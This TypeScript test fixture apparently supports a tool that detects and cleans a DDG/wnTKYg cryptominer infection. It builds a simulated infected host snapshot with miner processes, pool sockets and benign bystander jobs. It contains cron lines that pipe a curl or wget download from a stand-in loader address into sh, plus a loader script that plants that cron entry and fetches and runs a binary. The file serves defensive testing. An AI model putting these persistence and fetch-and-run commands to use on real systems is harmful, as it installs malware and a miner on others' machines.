import type { Snapshot } from '../../domain/snapshot.ts';
import type { JudgeContext } from '../../domain/verdict/index.ts';
import { emptyContext } from '../../domain/verdict/index.ts';
import { cleanSnapshot, crontab, elf, file, process, socket } from './snapshots.ts';

export const POOL = '198.51.100.7';
export const LOADER = '203.0.113.9';
export const CONTROL = '203.0.113.20';
export const CURL_LINE = `*/5 * * * * curl -fsSL http://${LOADER}:8443/i.sh | sh`;
export const WGET_LINE = `*/5 * * * * wget -q -O- http://${LOADER}:8443/i.sh | sh`;
export const SPOOLS = ['/var/spool/cron/root', '/var/spool/cron/crontabs/root'] as const;
/** Lines that must survive. */
export const GOOD_LINES = [
  '17 2 * * * /usr/local/bin/backup --target /srv/backup --password hunter2',
  '*/5 * * * * curl -fsS https://192.0.2.80/ping >/dev/null # healthcheck',
] as const;

const LOADER_TEXT = `#!/bin/sh
echo "${CURL_LINE}" >> /var/spool/cron/root
curl -fsSL http://${LOADER}:8443/2021/ddg.x86_64 -o /tmp/ddg.2021.part && chmod +x /tmp/ddg.2021.part
curl -fsSL http://${LOADER}:8443/i.sh | sh
`;

/** Pids of {@link infectedSnapshot}, moved by `shift` to look like a later survey after restarts. */
export const pidsOf = (shift = 0) => ({
  miner: 1000 + shift,
  guard: 1001 + shift,
  loader: 1002 + shift,
  fetcher: 1003 + shift,
  busyJob: 2000,
  otherCurl: 2001,
});

/** The infection of the source procedure among bystanders: wnTKYg, ddg.2021, i.sh with a hanging curl, both spools. */
export function infectedSnapshot(options: { shift?: number; minerParent?: 'guard' | 'init' } = {}): Snapshot {
  const pid = pidsOf(options.shift);
  const clean = cleanSnapshot();
  const minerParent = options.minerParent === 'init' ? 1 : pid.guard;
  const processes = [
    process({ pid: pid.guard, exe: '/tmp/ddg.2021' }),
    process({ pid: pid.miner, ppid: minerParent, exe: '/tmp/wnTKYg', cpuShare: 0.95, stdin: '/dev/null' }),
    process({ pid: pid.loader, exe: '/usr/bin/dash', argv: ['sh', '/tmp/i.sh'] }),
    process({
      pid: pid.fetcher,
      ppid: pid.loader,
      exe: '/usr/bin/curl',
      argv: ['curl', '-fsSL', `http://${LOADER}:8443/2021/ddg.x86_64`, '-o', '/tmp/ddg.2021.part'],
    }),
    process({ pid: pid.busyJob, exe: '/tmp/build-4711/compile', cpuShare: 0.99 }),
    process({
      pid: pid.otherCurl,
      exe: '/usr/bin/curl',
      argv: ['curl', '-sS', '-o', '/dev/null', 'http://192.0.2.90:8080/debian.iso'],
    }),
  ];
  const strings = `mining.subscribe\nmining.authorize\nstratum+tcp://${POOL}:3333`;
  const lines = [GOOD_LINES[0], CURL_LINE, WGET_LINE, GOOD_LINES[1]];
  return {
    ...clean,
    processes: [...clean.processes, ...processes],
    sockets: [
      ...clean.sockets,
      socket([pid.miner], POOL, 3333),
      socket([pid.guard], CONTROL, 8443),
      socket([pid.fetcher], LOADER, 8443),
      socket([pid.otherCurl], '192.0.2.90', 8080),
    ],
    cronFiles: [...clean.cronFiles, ...SPOOLS.map((path) => crontab(path, lines))],
    files: [
      elf('/tmp/wnTKYg', strings),
      elf('/tmp/ddg.2021', '/tmp/ddg.db wnTKYg'),
      elf('/tmp/build-4711/compile'),
      file('/tmp/i.sh', LOADER_TEXT),
      file('/tmp/i.sh.orig', '#!/bin/sh\n# the installer of the intranet page\nexit 0\n'),
      file('/tmp/wnTKYg.bak.txt', 'notes about the wnTKYg incident of last year, keep\n'),
    ],
  };
}

/** Knows the pool of {@link infectedSnapshot}. */
export const labContext: JudgeContext = {
  ...emptyContext,
  indicators: {
    pools: [{ host: 'pool.example', addresses: [POOL], ports: [3333] }],
    hashes: {},
    addresses: [],
  },
};
